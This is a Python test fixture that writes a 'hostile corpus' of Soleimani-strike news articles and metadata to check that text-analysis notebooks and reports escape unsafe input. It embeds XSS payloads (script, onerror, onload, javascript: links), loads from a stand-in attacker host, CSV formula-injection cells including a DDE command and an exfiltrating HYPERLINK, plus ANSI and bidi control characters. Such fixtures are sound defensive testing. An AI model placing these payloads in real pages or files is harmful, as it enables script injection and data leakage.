"""Hostile strings and a small corpus made of them, for tests/test_hostile_corpus.py (and `make fuzz`, which may
ask for other seeds).

Every script in the strings does one visible thing: it sets an attribute `data-pwned-<where>-<kind>` on the
page's root element (and the title to PWNED), so a browser that ran one leaves a mark in the DOM it dumps, and
the mark says which string ran and where it came from (body, title, outlet, desk). The corpus is ordinary news
prose about the Soleimani strike with the strings inside the sentences the notebooks pick out (the terms, KWIC
patterns, frame cues, quotations, a passage two outlets share), so that every table and figure carries some.
"""

from __future__ import annotations

import base64
import random
from pathlib import Path

#: The prefix of the attribute a script from the corpus sets when a browser runs it.
MARK = "data-pwned"
#: Where the corpus' remote loads point: a report that names it in a live element or style would load it.
EVIL = "http://evil.example"


def js(label: str) -> str:
    """The script every hostile string carries: marks the page with `label`, and renames it PWNED."""
    return f"document.documentElement.setAttribute('{MARK}-{label}','1');document.title='PWNED'"


def markup(where: str) -> list[str]:
    """Markup and links that run code when rendered as HTML (or as Markdown turned into HTML), labelled `where`."""
    data = base64.b64encode(f"<script>{js(where + '-data')}</script>".encode()).decode()
    iframe = js(where + "-iframe").replace("document.", "parent.document.")
    return [
        f"<script>{js(where + '-script')}</script>",
        f'<img src=x onerror="{js(where + "-img")}">',
        f'<svg onload="{js(where + "-svg")}">',
        f'<iframe srcdoc="<script>{iframe}</script>"></iframe>',
        f"[click](javascript:{js(where + '-link')})",
        f"![x](data:text/html;base64,{data})",
        f'<a href="javascript:{js(where + "-href")}">read more</a>',
        # Loads from elsewhere (tracking, a page that restyles or leaves the report) and MathJax's links:
        f"<style>@import url({EVIL}/{where}-import.css);</style>",
        f'<link rel="stylesheet" href="{EVIL}/{where}-link.css">',
        f'<meta http-equiv="refresh" content="0;url={EVIL}/{where}-refresh">',
        f'<base href="{EVIL}/{where}-base/">',
        f"$\\href{{{EVIL}/{where}-math}}{{click}}$",
    ]


#: Cells a spreadsheet takes for a formula (OWASP "CSV injection").
FORMULAS = ['=HYPERLINK("http://evil.example/?leak","click me")', "=cmd|' calc'!A0", "+1+1", "-2+3", "@SUM(1)",
            "\t=1", "\r=1"]
#: What rewrites a terminal (clear the screen, turn it red) or the order of text (right-to-left override).
ANSI = "\x1b[2J\x1b[31m"
BIDI = "\u202e"

#: Four outlets (the groups); their names carry markup, a formula, ANSI escapes, vertical tab and form feed (none
#: allowed in XML), `--` (not allowed in an XML comment, where matplotlib copies labels) and a bidi override.
OUTLETS = [f"Alpha {markup('outlet')[0]} News", FORMULAS[0], f"Gamma {markup('outlet')[1]} Wire",
           f"@SUM(1) Delta--{ANSI}Wire\x0b\x0c {BIDI}weN"]


def _bodies() -> list[str]:
    """Eight short articles: each sentence has a term the notebooks look for beside a hostile string."""
    m, f = markup("body"), FORMULAS
    # Word for word in articles 0 and 6, of two outlets (notebook 04's shared passages), script included.
    shared = ("Iranian state television said the commander was a martyr and that the assassination was an act of "
              f"state terrorism {m[0]} ordered by Trump.")
    return [
        f"The United States killed the Iranian general Qassem Soleimani {m[0]} in a drone strike near Baghdad on "
        f"Friday. Iran called the killing an act of terrorism {f[0]} and promised revenge.\n\n{shared}\n",
        f"\"This was an act of war against our nation {m[1]},\" the Iranian foreign minister said. "
        f"Officials in Washington said the strike {f[1]} was an act of self-defence after the attack.\n",
        f"Trump said Soleimani was a terrorist {m[2]} who had killed Americans. "
        f"Critics in Congress asked whether the assassination {f[2]} was lawful under international law.\n",
        f"Russia condemned the assassination of the Iranian commander {m[3]} as a violation of Iraqi sovereignty. "
        f"The Foreign Ministry warned that the murder {f[3]} would raise tension across the region.\n",
        f"Mourners in Tehran called Soleimani a martyr {m[4]} and said the killing would be avenged. "
        f"Oil prices rose {f[4]} after the news of the attack.\n",
        f"\"It was murder {m[5]},\" one senator said of the strike that killed Soleimani. "
        f"Analysts said the targeted killing {f[5]} had been planned for months{ANSI} by the Pentagon.\n",
        f"Soleimani led the Quds Force {m[6]} for more than twenty years, officials said. "
        f"His death raised fears of war {f[6]} between Iran and the United States{BIDI}.\n\n{shared}\n",
        "Iran said the assassination of Soleimani\x0b was state terrorism\x0c and vowed a harsh revenge. "
        f"Trump said the strike had stopped a terrorist plot {BIDI}[PWNED] {' '.join(m[7:])}.\n",
    ]


#: Metadata values: titles with markup, formulas and the control characters a text file may hold (the loader
#: refuses NUL, BEL and their like as binary; tests/test_hostile_corpus.py checks that it does).
TITLES = [f"US strike kills Soleimani {markup('title')[0]}", FORMULAS[0], "+1+1 Trump speaks",
          f"Moscow condemns the killing {markup('title')[1]}", "-2+3 martyrs\x0b mourned", f"@SUM(1) {ANSI}Analysts",
          "\t=1 Quds Force", "\r=1 Revenge \x0cvowed"]
#: A metadata column no code names, with a hostile value in every row.
DESKS = [markup("desk")[4], FORMULAS[1], f"{BIDI}world", markup("desk")[2], "-2+3", "@SUM(1)", f"{ANSI}red", "plain"]
#: Dates the loader cannot read, so that it warns about them, quoting them.
BAD_DATE = f"{ANSI}<script>{js('date-script')}</script>"


def file_names(controls: bool) -> list[str]:
    """The articles' file names: plain, or (`controls`) one carrying ANSI escapes as the probe's did."""
    names = [f"article-{number}.txt" for number in range(8)]
    if controls:
        names[5] = f"article-{ANSI}5.txt"
    return names


def _csv_cell(value: str) -> str:
    """One CSV cell, quoted so that commas, quotes and line breaks inside stay in the cell."""
    return '"' + value.replace('"', '""') + '"'


def hostile_corpus(folder: Path, *, seed: int = 0, controls_in_names: bool = True) -> Path:
    """Write the hostile corpus into `folder`: eight articles over four outlets, metadata.csv and, with
    `controls_in_names`, one file metadata.csv does not list (the loader warns, naming it).

    Parameters
    ----------
    folder : where to write (created); it holds the corpus alone.
    seed : shuffles which title and which desk go with which article (0: as listed); the bodies, file names and
        outlets keep their places, so that the shared passage stays between two outlets. Same seed, same bytes.
    controls_in_names : name one article and the unlisted file with ANSI escapes.

    Returns the folder.
    """
    titles, desks = list(TITLES), list(DESKS)
    if seed:
        random.Random(seed).shuffle(titles)
        random.Random(-seed).shuffle(desks)
    names = file_names(controls_in_names)
    folder.mkdir(parents=True, exist_ok=True)
    rows = ["file,outlet,title,date,desk"]
    for number, body in enumerate(_bodies()):
        (folder / names[number]).write_bytes(body.encode("utf-8"))
        date = BAD_DATE if number == 7 else f"2020-01-0{3 + number % 4}"
        cells = (names[number], OUTLETS[number % 4], titles[number], date, desks[number])
        rows.append(",".join(_csv_cell(value) for value in cells))
    (folder / "metadata.csv").write_bytes(("\n".join(rows) + "\n").encode("utf-8"))
    if controls_in_names:
        (folder / f"stray-{ANSI}notes.txt").write_bytes(b"Not listed, so not loaded.\n")
    return folder
